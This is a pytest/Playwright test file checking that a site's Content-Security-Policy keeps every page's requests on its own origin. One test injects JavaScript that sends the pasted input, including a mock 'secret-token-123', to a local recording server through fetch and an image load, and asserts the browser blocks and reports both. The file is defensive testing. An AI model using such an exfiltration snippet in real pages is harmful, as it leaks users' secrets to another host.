"""Privacy enforced by the browser: a Content-Security-Policy on every page keeps requests on the site's origin."""

from __future__ import annotations

import http.server
import re
import threading

import pytest

pytestmark = pytest.mark.browser

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def directives(policy: str) -> dict[str, list[str]]:
    return {d.split()[0]: d.split()[1:] for d in policy.split("; ")}


def test_every_page_carries_one_policy_that_keeps_requests_home(site):
    pages = list(site.rglob("*.html"))
    assert len(pages) > 40
    for path in pages:
        html = path.read_text(encoding="utf-8")
        found = POLICY.findall(html)
        assert len(found) == 1, path
        policy = directives(found[0])
        for name in ("default-src", "connect-src", "font-src", "form-action", "frame-src", "img-src", "worker-src"):
            assert policy[name][0] == "'self'" and all(s in ("'self'", "data:", "blob:") for s in policy[name]), (path, name)
        assert "'unsafe-inline'" not in policy["script-src"], path
        assert html.index("Content-Security-Policy") < html.find("<script"), path  # before any script it governs


@pytest.fixture
def elsewhere():
    """Another origin (another port of 127.0.0.1) that records every request it receives."""
    hits = []

    class Recording(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recording)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/x", hits
    server.shutdown()


def test_a_request_from_the_matcher_to_another_origin_is_blocked_and_reported(watched, base_url, elsewhere):
    url, hits = elsewhere
    page = watched.page
    page.goto(base_url + "match/")
    page.wait_for_selector("#match-input[data-bound]")
    page.fill("#match-input", "secret-token-123 CUDA out of memory. Tried to allocate 20.00 MiB")
    page.wait_for_selector('#match-results[data-state="done"]', state="attached")
    outcome = page.evaluate("""async (url) => {
        const reported = []
        document.addEventListener("securitypolicyviolation", e => reported.push([e.violatedDirective, e.blockedURI]))
        let fetched = "sent"
        try { await fetch(url + "?paste=" + encodeURIComponent(document.querySelector("#match-input").value)) }
        catch (err) { fetched = "blocked" }
        const img = new Image(); img.src = url + "?img=1"
        await new Promise(r => { img.onerror = r; img.onload = r; setTimeout(r, 2000) })
        await new Promise(r => setTimeout(r, 200))
        return {fetched, reported}
    }""", url)
    assert outcome["fetched"] == "blocked"
    assert any(d == "connect-src" and b.startswith(url) for d, b in outcome["reported"])
    assert any(d == "img-src" and b.startswith(url) for d, b in outcome["reported"])
    assert hits == []  # nothing reached the other origin (Playwright still lists the attempt as a request)
